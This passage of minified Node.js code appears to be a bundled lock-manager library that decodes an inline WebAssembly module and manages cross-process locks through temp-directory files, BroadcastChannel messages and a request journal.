.aftttttttt,e=tl(.ae)o(@De(Snae)e(=0@D@Mino(@?i.o(een=~Vt@Mid!nae.eno(@m&(eren1t@3)nae.e.o(v=)@P&(vred,pete.,Me(=)@Ml(s)rre)=+@M,pete),]et=~$t@Me),De)e)o(@D=0@D=~Vt@M,drmtete(,Hitnae)ete(,Tkret=tOr@k((@I(@Je)=n@Ml(e),ne)@Ml.=)l)et=)@<=~I~O~]~!n@k@%ln.ae(e.Onae(ztte)@%en@J@?id@F=~x~x~x~x{@hedLU@Z@F@Mit=~x~x~x~x{@Petet=~*~x~x~x{Sml)e(=(@Ml(s)rre)rTte),<:naet=@W)@Me)=w@M,{rr4tete)o(f&(tete)o(a=)@m&(nrL)(@Ieto(teto(ne)o(n@h=(@m@Ml(.ae(i.o(ti(e)Octre.e)o(t&(teteto(}=)@P&(}ryteto(teto(n,:r0teto(@N)e)=(@m@M=n@Po(trktet=t&(setLtW(netet=s@M&(trz))@Ietl..ae(nae.e)1ttEtte.=)@Ml.e)=)@Ml)e(=)@Pl(s)rretr-tet=b@Me),3it=,@P=tetmrktet:na=@Wlo(t,/=@Wle)&(tretri).@Ietl).ae(i.=)@Ml(e)o(ni)etOctre.r@!.)>@I?t=b@Pi.utet=o&(ne)=~Lt@Ml(e)=~Vt@Mlg.ae(o(ti(egOnaete(=e@M=s,>ete(=,@Po(tinen,n,>e(=n@Ml(s)rr=tl(.ae)e{,Ii{na=tld.aede{o(@Dqc(e{ed=0@D@Mino(@?l>en=~Vt@Mi}o(sin=h@Mlre}en=,@Merer,(mo(n!nae>e(&([ete>o(}inen,n,>e(=)@Ml(red=)@Mldstrtrre(ln.ae)ep,Iipnaetep=a@P=b,>=tl(.ae(epo(@Dqc(etepe(=0@D@Mo(@?=[@M=n,>e(=)@Ml(strtrreto(nl}e.=~k@8~m@;.&(}e.eg,k&(se.e) .,;.,e.e) .h;.he)o(ol(e.en&(ue.e(&(ee.e)=~!t@M,k&(oe.e)=@ )@M,k&(wet=t&(nete.=}@M=o,>e.=b@Mute}r:)(@I?t=,@Pi.ute.=t&(}e.LtW.te):e(e.et,minj@4:nae.e)&(te.et,mkre.=,@Mutenrstet=w@M,(=)@kr$)(@Ie)eto(ni.xnaeto(tl(ete.e)@P&(nete)e(@M&(tre(r~0))p@I(aeti.o(}ineto(n=)@Mitqn@Iet=(@mdenet=n@<qc)et=(@<rlte.o(nlpe.o(tl{et=(@min,si}:cte}en,Jlne.et=)@P&(ne.en&(t.aedepxnae{ed=(@m@Mo(tlt.aetnaeto(tlne.et,[enlts)rred=)@Mlds)rre{ep,:re.e.o(}=)@M&(}e)e(&(ne.e),[r8))@Ieteto(@q)id=)@M&(@q)eto(@S)ed=h@D@Miten;.,ete.;.}ete(&(nete)&(tr/))@Iete(,3lt(a.aetnaeto(}l(e),ni.e(,n!n@Ie)e(e.,Wd=)r:c(et,;lts)rr=tltretr<teto(@N)e)=(@m@M=n@Pe(&(te(e)&(br>te)~pet@O,.r=((@?(@Iet .Ci(e) .Ci.@gnae(e.@>|reto(@{ine)o(@{idOn@Ienedjdet .ae) .a@>rrB))@Ietl(.ae)nae(=tEtte(=)@Ml(e)=)@Pl)s)rretr[))@Ie)=,@Met=~!t@Mi(e)mo(ni)e(!naeto(@Z)l)r=te)=,@Pe)et=@ )@M!mrkteto(teto(ne)@h=(@m@Mo(te),6rgtetat=@IOr@Xn({@Id@??t=b@Pinut=@ll}e)en=b,|na(aeteno(e,hi>idna(aen thlren t,lsen t}lyen ttic,.:ecftttttt~VA@s@4cteced .[@rctetedec,Actenotui{=)Sct=tenotoe{mcter,r:ctes,r:cteset .,i|@scte.:na=)lped=o@M,(c)ecedo(o .[@rlps)reyet .h@r:ctey,.:ctesftttttt~V@I@}n@I=)lperftttttt~V@I@}c)ere|@O,r=)@kderes@s:c)esere|@O@srlprrep:cteno(wld=tlp?t=,@Pi{ut.a(aedep!cte)e{=s@M=n,|:cte{o(sige(o(nqcte(o(teg=(@m@Mo(tig,<cteteg,Mep=)@Mlps)rre{=,@Muted=tOedepx@h:ctete>en .teno(ueno(oen .hed,Ni):na=@Il}s)re.naeten .}ir;.hete)eren .,,zl(et,}e(:c)dete)en .,,aet,}r=t=@le)1t]e.!ml}rren=b@Mute}rut.ae):ete(!@4:nae)=)@Pl)eto(nlts)rretr2te),rn@Iet .,e)@O,rd=trrZ)(@I=@Wlo(t=t=t,+it,1i)=tFn@I=@Wlo(t=@zlo(tet,+de)rr:)(@I=@zlo(tl)et=@Zlo(ti(Snae)nae)e(,dr=@zlet,si)&(t=@Zlet=te)m&(tre)=@Ie)mryt=eet=)@P=|@4@y@Pr@op(c@I(@??t=,@Pisutfttttttttes=s@M,*l.eso(slp(ae.:na(a?t=a@Midutede)&(]edet&([=@ll.ed=[@Med=,@M=o,|na(aed .hi,,.:cted .eiM,.:cteMedo(v,?:ctedo(winedo(]=(@<Sctepe,ftttttttt@O;.,en=(@m=n@Mic,sl.eden&(sede.&(}e.:na=@Il.s)re.ec,Jlyed=[@Ml}ed=}@Mlg=tl.edot0l{.aedotolr=te{e.mnae{=)@Pl{?t=,@Pinut=@ll.e}en=s,|na(aereno(}i|jcte|epo(oxctepe},ce|en .t,Vl.rren=,@Muts)rreper&(oe.:na=tl.=tln(@I(a.ae.ego(nqc)=@le},ci{:c(kepe{,&l{e.=(@mirego(t@Me{&(te.=)@Ml.erego(t@Mo(tctr=@Ilnrenrl.redotbl{.a=te{e.mnae{=)@Pl{epe}eg=),Bl.s)rr=@llned tei,ep .h@>:na(aepe,ftttttttt@O;.hedotvl{e.ln.ae{:en@4c)e{=)@Pl{epe}eg=t,Blnstrtrrenl..aeye>=(@m@Mo(tinnaepen,Me>=)@Ml>s)rrep,}eyec,d=@ll>(a(ae.=)@My((t)r=tln?t=,@Pi.utep=t=t,+e)!nae.=)6)}e.=t&(ne.et&(te.ep,mke.1tg:lnre.=,@Mut=t=@lenml>re>l.rred=a@Pute.ct=tl.s(rrep,/=tlpre(ep&(tes=,@Mute.r@P).@Ie)o(@Dinl.(a(a.ae.=)@Pi.:c)e)e)o(v=)@Mi(=te(enjmi(&(ve)e(=0@D@Mi(1t@3):c(e(o(@?i(1t]:ctre(=u@Me)=+@M,{s)rete),Lrr4teto(@rn@Ieto(@|it=@Ietmd=)rra)(@Ieto(vi.:na=)|reto(eo(ti(et=,@M!naeto(hl(re),Gite(o(},G!ete.S@hr@K))d@I=)ld.ae)o(@De{Snae)e{=0@D@Mino(@?lpen1t@3):naepe),Kl}en=)Et@3)epepo(v=)@M&(vede}@hldren=~Vt@Min,pep=h@Men,{e{=)@Ml{s)rrete),]e)=)Et]ete)e(e.,ved=)@hr@*)).@Ie)e.;.Ce)e(;./e)o(ulne)e)o([e(,)e.,)&(hen=e=oe)1t]m@Me)=}@M,{etet=~!t=@ )e)1t]m@Mino(tipe)=,@Mid,geden,g@Mepen,g@Peto(w@M&(wened,{e.ftttttt~V@I@gnaeteto(@O)=)@Min&(@O)etene),Frr2teto(ve)fttttttbN@O~r@F@Mr@H).@Iet=~Ht@Mi(e)eto(}e),,i.,lit:nae),n=a@P,sitnaet=,@Min,tet=h@M,tet=u@M,tet=w@M,tet=tEt]et=t&(veten&(ee(etet=8@Me)e.,Ed=t|rretra)(@I(a.ae(:c)et1tti.e)1ttin!nae)=)@Ml)et=)@Mlte(=)@Pl(s)rre.en@P|r=tr3te)eto(teto(ne)o(n@h=(@m@Mito(t&(tete)&(tryteto(teto(n,6rute)e(e.e.,n,T&(}e)=te.,,&(sete)en,Urit.a(aet:cteto(ne)!cteto(tlts)rretr~G))d@Ie)=}@Mi(,(:na(ae(,pete)=,@Mi(o(ti.e(o(nin,ge.e(,ge(en,g@M@Peto(w@M&(we(,petl(e)o(bit:cte)=t&(be(e(o(@O)=)@Pi.&(@O)e(o(@N)e.=(@m@Mo(tine)!ct.a(aet=)@mi)e.Scte)e.jnae(e)=)@4id,-lpede)epe(e),-,uml)re(e),-iden,u:cte(eted,ie)lts)rre(eten,FrrrVteteto(we)o(b@P&(we)e(;.[e)e)o(se)o(a~p,)e(,)i)&(beteto(we)@M&(wr~l))n@I=@Jlne)na(ae)ott:e.ftttttt~VA@>@4cte.,.:ct=@?lnet=a@Pipe)eto(}ide),,i{,lcte(:na=@e|re),n=~2t@M,sin:na=@I|ren=t&(bene(&(aenede(~p,)ed~p,)&(ven=e@M,ten=o@M,tet=~Vt@Men=h@M,{et=b@Men=,@Me(,Uepenen=~Pt@Me)e{,Eete(&(oetene.,8=tlnrrenratet=~$t@Me)e(,X,3lt(a.aetnae(et .a@}naeto(ue)!c.ret,;lts)rr=tltretr@.)n@I.ae)o(@De.Snae)e.=0@D@Mino(@?id=,@Mipen=~Vt@Min,{epedo(e!naeden&(ere.=)@Ml.s)rrete)ftttttttte(,vrI))@Ie)=h@Ml(.ae(,(:naete)o(+o(}=.,ys)rrr_)(@?et .,e) .R@Ol(etet .hftttttt~VA@Oi.;.hete)e.e(ftttttt~V@Ie(,rm,zket=)e)o(@{e) .ae) ./,er~V().@Iet,Snaep=0@D=~Vt@M,si{nae{=}@M,te{=,@M,te{=+@M,te{e)&(ue)o(al}e{en&(@|e{e.&(@re{e(;.ae{e}&(@{e{edftttttttt@O;.Retet .eidftttttt~VA@O;.ee{ep&(@De{=tEt]e{LtW.be{ed;.oe{=~Vt@Mlget=@W)@Mln=tl..ae.epOnaeno(nlnege.=0@D@Mi}=tEt,e}en=w@P&(se}e{&(}e},te.=)@Ml.s)rr=tl.e{o(@{e{ .a,)e{ .R,)e{o(@r~p,)e{o(@|~p,)lne{o(@Dl}e{lp.ae.e}Onaenepe.=0@D@Mo(@?o(s~p,)lne.=)@Ml.s)rrepen&([et=~$t@Mepe)e(,X,Ud=tlprd=tlprepr5)(@I=@Jlne(na(a(a.ae(nae),ci.:c.ete.,&i.:c(e.,<c.e(=)@Pl(ete.,Ms)rr=@J=te)o(nmlns)r=@I|rrenrDte)naete)=(@m=n@M,drr<t.ae),(:naete)o(n=}@P=n,ys)rrrqtete)=e@M,!ete)=o@M,!eteto(we)o(b@P&(we)=h@M,pet=b@Me)=,@M,Det=a@Pe),De)e)o(},n=~2t@M,dr5))@Ietnaet=~Vt@Ml).ae),(:naeteto(@m=h@P,Os)rret,}et=b@M,0et=a@P,0et=~Ht@M,0et=~$t@M,0et,jet=@5),drrPteto(@N)eto(@A),7,dr>tet=v@D=b@Mr@u)n@Ieto(@|i)eto(@A)i.je)=)@Me.=n@<q@h:nae)=)@m=}@Min,7,si(:nae)e.j|reto(@N)i)nae(e)eto(@O)=(@m,Tket,jrete(&(@N)eten&(@A)ete(en=(@m@M&(@S)r=)r~.)))@I(@Ie)=t&(tet,.n@I=@5),si(nae(=@5),Ji(=@ lo(t&(}e(=~7eB(tW(td=tl(r=@Ie(:c)ke(etftttttttt@O;.he(=b@M,2e(=a@P,2e(=~Ht@M,2e(=~$t@M,2e(=~Vt@M,te(=~!t@M,te(=@ )@M,te(=@W)@M,te(,Sn@Ie)e(&(t=tde(=@5),d=@Ird=@Jrrrlteto(@O)n@?eto(@N)o(t .Cdftttttt~V@Irr6)(@I.a(ae)=(jcte(ete)=)@<i.,-in,u:ctete)en,ie.l)s)rrete)e(,irI))@I=@Wlo(tito(wet .,,)et .h,)eto(o~p,)~prrt=@Wlo(to(@|r>t=@Wlo(t,xrrt=@Wlo(t .,ret=@Wlo(tet,hitn@?et .[dftttttt~V~crrA)(@I=@Wlo(tl)=@Jl(et,.na(ae) .het@c:naete)o(@|,?:c)e)et;.hr=tl(rre(r,tete)=0@D@Mo(@?o(}rst=@Wlo(tet,Irct=t=@6lo(t,4krC)(@I?t=,@Pi)ut,wit=tFna=@zlo(tete)=s@M,Zit:na=@6l=@Wlo(t&(t=@Wle)o(s&(t=tltrre)=,@Mutetr$))@I?t=,@Pi)ut=@zlo(tete)=s@M,Ze)o(s,4lte)=,@Mutetrst=@Wlo(to(@S)rst=@Wlo(to(@q)r~xp)n@I?t=~Ht@Pisutes=@zlo(t&(feser&(aese>&(]eseg&([ese}&(vese{&(besep;.oesed;.eesen;.hese.;.,ese(;.}ese)&(neset&(t=@Wlo(tir=t&(@q)=@Jlc(a(a(a(a(a(aet=)@Pyp...()tdrep,.:cn=tlcer .,ep@>:cnerep;.,snrere),hit:c(eret,O=tlcs.res=~2t@Mites,Pet,clte>=)Oc(eso(*c(eretero(o=)@Me(,Vicc(er=pero(oe(ftttttttt,e=tlcs(rere),hiy:cte(,.:c)=@?lcey .[ipe(@cc)=@ilcepftttttt~VA@Oe(@>c)(a(a(a(a(aet=)@Py()t(r=@Jl)e.,.:c.ereye.,Aitn@Ieret=n,y=td=)rl)s.r=@Jl)=tlteso(bic=)xna(aeso([i|=(Sec=te|=(!m@4ct=teso(vecmcteres .h, :cteres .e, ltrret:c(es=~2t@Mites,Perete>,fi)c)=.l)er .hero(@|=)@M,?:c)ereye(e{e}ede>,Ni{:na=@Il)s(reg=(@h:naere{er .,en@O,aer,}=tl)eg=)@h:c(e{1t]c(ere{=(,ys(r=tlt.aete{o(@Djnaere{et=0@D@Mi)o(@?,=e)o(@?=)Et]et=)@Mlts)rrere{,L=tl)s)res=~2t@Mites,Perete>,fl)er,}e)cter=~Ht@Ml{es=~2t@Mes,P=tl)=tlt.aete>!c)e{es=~2t@M,ci}ero(}e},,,li}naere},=ret=)@Mltstrtr=@Ilce)=@I!c(rereye(,8=(e)e)=t/mlcs)r=@ulcrer,}.aer,xer .,@snaerero(@N)o(t=d,yer,}s)rres=~Ht@Mutecrb))@I?t=,@Pi(ut=@ le)&(tete(=s@M,*e(o(s,4l)e(=,@Mute)r".match(/[@~]?[^]/g).map(e=>"t)(.ndp{}g>rscy|,MPD0-2Th4km+<HUeli?uJI3oB# w1$ZbGKzvX&W[;E6]8VAa=LNf:!O/j7S*xFqCQY^%_95R".indexOf(e[1]||e)+89*("@~".indexOf(e[0])+1)))),(({exports:e})=>e)(new WebAssembly.Instance(p))),e),xe=require("node:crypto"),Ae=require("node:fs"),je=require("node:path"),Te=i(require("node:process"),1),De=require("node:timers"),Ne=require("node:fs"),Le=require("node:timers"),Ce=require("node:worker_threads"),Re=i(require("node:os"),1),We=require("node:perf_hooks"),Fe=e=>{let t,r=((e=(()=>Re.default.availableParallelism?.()??Re.default.cpus().length)())=>{let t=new Int32Array(new SharedArrayBuffer(4)),r=0,n=0;return{word:t,keep(o){if(e<2||n++<r)return;n=0,Atomics.store(t,0,1);let a=o(),s=We.performance.now()+.2;for(;!a&&1===Atomics.load(t,0)&&We.performance.now()<s;);2===Atomics.exchange(t,0,0)&&(a=o()||a),r=a?0:Math.min(2*r+1,16)}}})(),n="",o=new Map,a=t=>{let r=new Ce.BroadcastChannel(`${e}:${t}`);return r.unref?.(),r},s=e=>{o.get(e)?.channel.close(),o.delete(e)},l={listen(e,{rung:r}){n=e,t=a(e),t.onmessage=({data:e})=>{e&&e.word?(({from:e,word:t})=>{let r=o.get(e);r&&(r.word=t)})(e):r(e,()=>{})},t.unref?.()},ring(e,t=0){let s=(e=>{let t=o.get(e);return t||o.set(e,t={channel:a(e),rings:0}),t})(e);!t&&s.word&&(e=>0!==Atomics.compareExchange(e,0,1,2))(s.word)||(s.channel.postMessage(t),16===++s.rings&&s.channel.postMessage({from:n,word:r.word}))},ringAll:(e,t)=>e.forEach(e=>l.ring(e,t)),stayAwake:r.keep,forget:s,close(){t?.close(),[...o.keys()].forEach(s)}};return l},ze=(e,t,r)=>{let n=()=>{let e=(0,Le.setInterval)(t,20).unref();return()=>(0,Le.clearInterval)(e)};if("win32"===r)return n();let o=()=>{};try{let r=(0,Ne.watch)(e,{persistent:!1},t);r.on("error",()=>{r.close(),o=n()}),o=()=>r.close()}catch{o=n()}return()=>o()},Ue=(e,t)=>{let r,n=new Map,o=e=>{n.get(e)?.stop(),n.delete(e)},a=(t,a)=>{n.get(t)?.path!==a&&(o(t),n.set(t,{path:a,stop:ze(a,()=>r[t](),e)}),r.rung(void 0,()=>{}))},s=()=>{o("stirred"),o("alarmed")};return{listen(e,n){r=n,t.listen(e,r.rung,r.cut)},ring:t.say,ringAll(e,t,r){let n=new Date;try{(0,Ne.utimesSync)(r,n,n)}catch{}},stayAwake(){},forget:t.forget,kernel:{heed:e=>a("alarmed",e),attend(e){n.get("alarmed")?.path!==e&&a("stirred",e)},unattend:()=>o("stirred"),rest:s},close(){s(),t.close()}}},Be={};s(Be,{bury:()=>At,holdAlive:()=>Pt,isAlive:()=>xt,pathOf:()=>Ot,watchAlive:()=>qt});var Je,Ve=require("node:buffer"),_e=require("node:fs"),He=require("node:fs/promises"),Ke=require("node:path"),Xe=i(require("node:process"),1),Ze=require("node:timers"),Ge=require("node:worker_threads"),Ye=require("node:crypto"),Qe=require("node:fs"),et=require("node:os"),tt=require("node:path"),rt=i(require("node:process"),1),nt=e=>{try{return e()}catch{return""}},ot=e=>e.code||"",at=()=>"win32"===rt.default.platform?[(0,tt.join)((0,et.userInfo)().homedir,"AppData","Local","Temp")]:["/tmp","/dev/shm","/var/tmp"],st=["ENOENT","ENOTDIR"],lt=[...st,"EROFS","EACCES","EPERM"],it=e=>{try{return(0,Qe.mkdirSync)(e,{mode:448}),!0}catch(e){if("EEXIST"!==ot(e))throw e;return!1}},ct=()=>rt.default.geteuid?.(),dt=(e,t)=>{let r=ct();if(void 0===r)return;let n=(0,Qe.lstatSync)(e),o=n.isDirectory()?n.uid!==r?"belongs to another user":63&n.mode?"can be entered by other users":"":"is no directory";if(o)throw new Error(`Lockkeeper: ${e} ${o}. ${t}`)},ut=e=>{let t=(0,Qe.lstatSync)(e,{throwIfNoEntry:!1});return!!t&&(void 0===ct()||t.uid===ct())},ft=(e,t,r,n="")=>{let o,a=t.map(t=>(0,tt.join)(t,e)),s=a.find(e=>nt(()=>ut(e)?e:""));for(let e of s?[s]:a)try{let t=it(e);return dt(e,r),{path:e,isNew:t}}catch(e){if(!lt.includes(ot(e)))throw e;o=o||e}let l=`${st.includes(ot(o))?"Create the directory":"Let this user write to"} ${t.join(" or ")}`;throw new Error(`Lockkeeper: no directory can be made for the locks (${o.message}). ${l}${n}.`,{cause:o})},pt=e=>nt(()=>(0,Qe.readFileSync)(`/proc/${e}/stat`,"latin1").replace(/^.*\)/s,"").split(" ")[20]),ht=e=>(0,Ye.createHash)("sha256").update(Buffer.from(e,"utf16le")).digest("base64url").slice(0,12),mt=e=>{let t=[e,(0,tt.join)(e,"log","0"),...(0,Qe.readdirSync)(e).map(t=>(0,tt.join)(e,t,"log","0"))].map(e=>(0,Qe.lstatSync)(e,{throwIfNoEntry:!1})?.mtimeMs||0);return Date.now()-Math.max(...t)>6048e5},gt=(e,t)=>{for(let r of(0,Qe.readdirSync)(e)){let n=(0,tt.join)(e,r);nt(()=>String(t(r,n)&&ut(n)&&(0,Qe.rmSync)(n,{recursive:!0,force:!0})))}},wt=()=>{let e=nt(()=>(0,Qe.readlinkSync)("/proc/self/ns/pid").replace(/\D/g,"")),t=!!e||"linux"!==rt.default.platform,r=`lockkeeper-process-${rt.default.pid}-${e}-${pt("self")}`,{path:n,isNew:o}=ft(r,at(),"Where the process changes its user (setuid), it must do so before the first lock is asked for; where another user has made this directory, it must be removed.");return o&&gt((0,tt.dirname)(n),(r,n)=>{let[,o,a,s]=/^lockkeeper-process-(\d+)-(\d*)-(\d*)$/.exec(r)||[];return!!o&&(t&&a===e?!((e,t)=>{try{rt.default.kill(e,0)}catch(e){return"ESRCH"!==ot(e)}let r=pt(e);return!r||r===t})(Number(o),s):mt(n))}),n},bt=(e,{scope:t="process",directory:r})=>{if("host"===t){try{wt()}catch(e){if(!e.cause)throw e}return((e,t)=>{let r=ct()??nt(()=>(0,et.userInfo)().username),n=", or give all processes the same other directory: createLockManager({ scope: 'host', directory })",o=ft(`lockkeeper-${r}`,void 0===t?at():[t],`Remove it${n}.`,n).path,a=nt(()=>(0,Qe.readFileSync)("/proc/sys/kernel/random/boot_id","latin1").slice(0,8)),s=(0,tt.join)(o,`host-${a}-${ht(e)}`);return it(s)&&gt(o,(e,t)=>/^host-/.test(e)&&!e.startsWith(`host-${a}-`)&&mt(t)),s})(e,r)}let n=(0,tt.join)(wt(),ht(e));return it(n),n},yt=new Set,vt=!1,Mt=!1,kt=e=>{e.lives()||!yt.delete(e)||(e.stop(),e.onDeath())},It=()=>{[...yt].some(({told:e})=>!e||!vt)?Je=Je||(0,Ze.setInterval)($t,20).unref():((0,Ze.clearInterval)(Je),Je=void 0)},$t=()=>{[...yt].forEach(kt),It()},St=(e,t)=>{let r=(0,_e.watch)(`/proc/self/fd/${e}`,{persistent:!1},t);return r.on("error",()=>{}),()=>r.close()},Et=e=>{try{let t=(0,_e.readFileSync)(e,"latin1"),[r,n,o]=t.split(" "),a=Number(r),s=Ve.Buffer.from(o),l=Ve.Buffer.alloc(s.length);return{descriptor:a,lives(){try{let e=(0,_e.fstatSync)(a);return e.isFile()&&String(e.ino)===n&&(0,_e.readSync)(a,l,0,l.length,0)===l.length&&l.equals(s)}catch(e){return!["EBADF","ESPIPE","EISDIR"].includes(ot(e))}}}}catch(e){let t="ENOENT"===ot(e);return{descriptor:-1,lives:()=>!t}}},Ot=(e,t)=>(0,Ke.join)(e,t),Pt=async e=>{let t=await(0,He.open)(`${e}-`,"wx+",384),r=()=>{(0,_e.rmSync)(e,{force:!0}),t.close().catch(()=>{})};try{(0,_e.unlinkSync)(`${e}-`);let r=(0,Ke.basename)(e);(0,_e.writeSync)(t.fd,r),(0,_e.writeFileSync)(e,`${t.fd} ${(0,_e.fstatSync)(t.fd).ino} ${r}`,{flag:"wx",mode:384})}catch(e){throw r(),e}let{port1:n}=new Ge.MessageChannel;return n.on("message",()=>{}),n.unref(),{ref:()=>n.ref(),unref:()=>n.unref(),close(){n.close(),r()}}},qt=(e,t)=>{let{descriptor:r,lives:n}=Et(e),o={lives:n,onDeath:t,told:!1,stop(){}};yt.add(o);try{"linux"===Xe.default.platform&&(o.stop=St(r,()=>kt(o)),o.told=!0,(e=>{if(!Mt){Mt=!0;try{let t=(0,_e.openSync)(e,"wx+",384);(0,_e.unlinkSync)(e);let r=St(t,()=>{vt=!0,r(),It()});(0,_e.closeSync)(t)}catch{}}})(`${e}+`))}catch{}return(0,Ze.setImmediate)(()=>kt(o)),It(),()=>{yt.delete(o),o.stop(),It()}},xt=async e=>Et(e).lives(),At=e=>(0,_e.rmSync)(e,{force:!0}),jt=require("node:buffer"),Tt=require("node:fs"),Dt='\n{"close":',Nt=(e,t)=>{let r=e.indexOf("\n",t);if(!(t<0||r<0))try{return JSON.parse(e.toString("utf8",t,r))}catch{return}},Lt=require("node:fs"),Ct=require("node:path"),{O_APPEND:Rt,O_CREAT:Wt,O_EXCL:Ft,O_RDWR:zt}=Lt.constants,Ut="0",Bt=e=>parseInt(e,10),Jt=/^[ !#-[\]-~]*$/,Vt=e=>Jt.test(e)?`"${e}"`:JSON.stringify(e),_t=e=>1===e.length?Vt(e[0]):e.map(Vt).join(),Ht=(e=1/0)=>e<1/0?e:"null",Kt=e=>{switch(e.type){case"request":{let{mode:t,ifAvailable:r,steal:n,limit:o,wait:a,hold:s,names:l}=e;return`[0,${("exclusive"===t?1:0)+(r?2:0)+(n?4:0)+(o?8:0)},${Ht(a)},${Ht(s)},${o?`${o},`:""}${_t(l)}]`}case"drop":return`[1,${e.request}]`;case"force-release":return`[2,${_t(e.names)}]`;case"join":return"[3]";case"gone":return`[4,${JSON.stringify(e.client)}]`;default:return`[5,${e.now}]`}},Xt=(e,t,r)=>{switch(r[0]){case 0:{let[,n,o,a,...s]=r,l=8&n?s.shift():0,i={type:"request",client:e,number:t,names:s,mode:1&n?"exclusive":"shared"};return l&&(i.limit=l),2&n&&(i.ifAvailable=!0),4&n&&(i.steal=!0),null!==o&&(i.wait=o),null!==a&&(i.hold=a),i}case 1:return{type:"drop",client:e,number:t,request:r[1]};case 2:return{type:"force-release",client:e,number:t,names:r.slice(1)};case 3:return{type:"join",client:e,number:t};case 4:return{type:"gone",client:r[1]};default:return{type:"tick",now:r[1]}}},Zt=([e,t,...r])=>{let n=t,o=[];for(let t of r)o.push(Xt(e,t[0]<4?n++:0,t));return{by:e,operations:o}},Gt=require("node:buffer"),Yt=require("node:fs"),Qt={first:16384,next:65536,marks:8192},er=()=>{},tr=(e,t)=>{e.destroyed||(e.writableLength>65536?e.destroy():e.write(t?`${JSON.stringify(t)}\n`:"\n"))},rr=(e,t)=>{let r="";e.setEncoding("utf8"),e.on("data",e=>{let n=(r+e).split("\n");r=n.pop()||"",n.forEach(t)})},nr=(e,t)=>{let r=new WeakMap,n=0,o=(o,a)=>{let s=()=>e.request(o,(e,t,r)=>{"granted"===e&&(i.fence=t),"unavailable"===e?l():a(e,t,r)}),l=async()=>{let e=n,l=t(o.names),c=l&&await l;if(r.delete(i))if(e!==n)a("lost",0);else if(c){let e=s();r.set(i,e),i.number=e.number}else a("unavailable",0)},i=s();return r.set(i,i),i};return{...e,request:(t,r)=>(t.ifAvailable?o:e.request)(t,r),drop(t){let n=r.get(t);n&&r.delete(t),e.drop(n||t)},detach:t=>e.detach&&e.detach(r.get(t)||t),leave(){n++,e.leave()}}},or=(e,t)=>{try{return e.apply(t)}catch(e){let{status:r=me}=e;if(r===me)throw e;return r<2||"request"!==t.type?[]:[{type:"broken",client:t.client,number:t.number,fence:0}]}},ar=(e,t)=>"exclusive"===e.mode||"exclusive"===t.mode||e.limit!==t.limit,sr=({held:e,pending:t},r)=>{let n=new Map,o=new Set;for(let a of[...e,...t])for(let e of a.names){let t=n.get(e)||{exclusive:"",shared:new Set,seen:!1};n.set(e,t),a.client===r&&!a.fence&&!t.seen&&(t.seen=!0,"exclusive"===a.mode&&t.shared.size?t.shared.forEach(e=>o.add(e)):t.exclusive&&o.add(t.exclusive)),"shared"===a.mode?t.shared.add(a.client):(t.exclusive=a.client,t.shared=new Set)}return o.delete(r),o},lr=({surroundings:e,journal:t,core:r,members:n,client:o,isNeeded:a,died:s,failed:l})=>{let{bell:i,life:c,now:d,setTimer:u}=e,f=((e,t)=>{let r=new Map,n=new Map,o=e=>{r.has(e)||r.set(e,(o=>c.watch(o,()=>{r.delete(e),n.delete(e),t(e)},l))(e))},a=e=>{r.get(e)?.(),r.delete(e)};return{turnTo(e,t){for(let[e,r]of n)t(e)>=r&&n.delete(e);for(let t of r.keys())r.size>8&&!e.has(t)&&!n.has(t)&&a(t);e.forEach(o)},expect(e,t){n.set(e,t),o(e)},remove:a,stop(){[...r.keys()].forEach(a),n.clear()}}})(0,s),p=!1,h="",m=-1/0,g=e=>{p||(p=!0,u(w,e))},w=()=>{if(p=!1,!a())return;let e=`${t.path()} ${t.position()}`;if(e===h)return;let s=d();if(s<m+8)return void g(m+8-s);if(h=e,m=s,n().size<2)return;let l=r.state();b.lookAt(l),(({held:e,pending:t},r)=>{let n=new Set,o=new Set;for(let e of t)if(e.client===r)for(let t of e.names)("exclusive"===e.mode?n:o).add(t);let a=e.filter(({mode:e,names:t})=>t.some(t=>n.has(t)||"exclusive"===e&&o.has(t))),s=new Set(a.map(e=>e.client));return s.delete(r),s})(l,o()).forEach(e=>i.ring(e))},b={lookAt:e=>f.turnTo(sr(e,o()),r.last),settle:()=>g(1+.01*r.requestCount()),doubt(){h=""},expect:f.expect,forget(e){i.forget(e),f.remove(e)},stop(){f.stop(),h=""}};return b},ir=["EAGAIN","EBUSY","EDQUOT","EINTR","EIO","EMFILE","ENFILE","ENOBUFS","ENOMEM","ENOSPC","ETXTBSY","out-of-memory"],cr=e=>ir.includes(ot(e)),dr=432e5,ur=()=>{},fr=e=>"force-release"===e.type||"request"===e.type&&!!e.steal,pr=(e,t)=>{let{life:r,bell:n,now:o,defer:a,afterTask:s}=e,l=!1,i=!1,c=!1,d=!1,u=0,f=(e=>{let t="",r=0,n=new Map,o=new Map,a={},s=new Set,l=({status:e,news:t})=>"held"===e||"granted"===t,i=({resolve:e})=>!!e,c=e=>(e.client=t,e.number=++r,o.set(r,e),r),d=e=>{e.number=c(Object.assign({type:"request"},e.description)),n.set(e.number,e)},u=(e,t,r=!1)=>{e.entersFirst=r&&"granted"===e.news,e.news=t,s.add(e),"granted"!==t&&n.delete(e.number)},f=(t,r)=>{c(t),e()},p=({number:e},t)=>f({type:"drop",request:e}),h={begin(e){let s=n,l=h.outstanding().filter(i);t=e,o.clear(),a={},r=0,n=new Map,c({type:"join"}),s.forEach(d),l.forEach(c)},id:()=>t,busyBesides:e=>n.size>e||h.outstanding().some(i),outstanding:()=>[...o.values()],lastDelivered:()=>r-o.size,waits(){for(let{status:e,number:t}of n.values())if("open"===e&&!o.has(t))return!0;return!1},hasNews:()=>s.size>0,holds(){for(let{status:e}of n.values())if("held"===e)return!0;return!1},isOpen:e=>n.has(e)&&!o.has(e),busy:()=>n.size>0||h.outstanding().some(i),request(t,n){let s={number:0,description:t,listener:n,status:"open",news:"",entersFirst:!1,fence:0,askedAgain:!1},l=o.get(r),{number:i}=a;return l&&o.size<2&&l.request===i&&!1===t.steal&&(JSON.stringify(t),JSON.stringify(a.description)),d(s),e(),s},drop(e){s.delete(e),e.status="ended",n.get(e.number)===e&&(n.delete(e.number),a=e,p(e))},mark:(e={type:"drop",request:0})=>new Promise(t=>f(Object.assign({resolve:t},e))),operationDelivered(e){for(let[t,{resolve:r}]of o){if(t>e)break;o.delete(t),r&&r()}},asksAgain({type:r,client:o,number:a}){let 